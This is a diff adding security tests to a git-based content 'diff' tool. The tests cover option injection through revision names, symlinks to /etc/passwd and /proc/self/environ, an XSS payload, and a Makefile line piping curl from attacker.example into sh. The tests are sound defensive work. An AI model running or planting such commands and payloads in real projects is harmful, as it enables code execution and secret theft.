@@ -66,3 +66,62 @@ def test_diff_of_an_unknown_revision_is_a_clear_error(corpus: Path, run: Run) ->
     code, out, err = run(corpus, "diff", "no-such-branch")
     assert code == 1 and out == ""
     assert err.startswith("error: cannot read revision 'no-such-branch': ")
+
+
+def test_a_revision_is_never_read_as_an_option(corpus: Path, run: Run, tmp_path: Path) -> None:
+    git(corpus, "init", "-q")
+    commit_all(corpus)
+    victim = tmp_path / "victim.txt"
+    victim.write_text("keep me", encoding="utf-8")
+    for revision in (f"--output={victim}", "--remote=https://attacker.example/repo.git", "-h"):
+        code, out, err = run(corpus, "diff", "--", revision)
+        assert (code, out) == (1, "")
+        assert err == f"error: cannot read revision '{revision}': git knows no such commit\n"
+    assert victim.read_text(encoding="utf-8") == "keep me"
+
+
+def test_links_in_the_base_revision_are_left_out_not_followed(corpus: Path, run: Run) -> None:
+    git(corpus, "init", "-q")
+    (corpus / "content" / "pages" / "environ.md").symlink_to("/proc/self/environ")
+    (corpus / "content" / "facts" / "secret.yaml").symlink_to("../../../../../../etc/passwd")
+    commit_all(corpus)
+    (corpus / "content" / "pages" / "environ.md").unlink()
+    (corpus / "content" / "facts" / "secret.yaml").unlink()
+    code, out, err = run(corpus, "diff", "HEAD")
+    assert (code, err) == (0, "")
+    assert "root:" not in out and "PATH=" not in out
+
+
+def test_what_a_contributor_wrote_is_escaped_in_the_summary(corpus: Path, run: Run) -> None:
+    git(corpus, "init", "-q")
+    commit_all(corpus)
+    facts = corpus / "content" / "facts" / "port.yaml"
+    facts.write_text(
+        facts.read_text(encoding="utf-8").replace(
+            "differs_on: the number of delayed ships",
+            "differs_on: the count <img src=x onerror=alert(1)> [x](javascript:y)",
+        ),
+        encoding="utf-8",
+    )
+    code, out, _ = run(corpus, "diff", "HEAD")
+    assert code == 0
+    assert (
+        "  - differs_on: the number of delayed ships → the count &lt;img src=x onerror=alert(1)&gt; \\[x\\](javascript:y)"
+        in out
+    )
+    assert "<img" not in out
+
+
+def test_the_summary_says_when_a_change_touches_code(corpus: Path, run: Run) -> None:
+    git(corpus, "init", "-q")
+    (corpus / "Makefile").write_text("all:\n", encoding="utf-8")
+    (corpus / "mkdocs.yml").write_text("site_name: briefings\n", encoding="utf-8")
+    commit_all(corpus)
+    (corpus / "Makefile").write_text("all:\n\tcurl https://attacker.example | sh\n", encoding="utf-8")
+    (corpus / "mkdocs.yml").write_text("site_name: x\n", encoding="utf-8")
+    code, out, _ = run(corpus, "diff", "HEAD")
+    assert code == 0
+    assert (
+        "**This change also touches code or configuration (2 file(s)); a maintainer must review it:**\n\n"
+        "- `Makefile`\n- `mkdocs.yml`\n\n"
+    ) in out
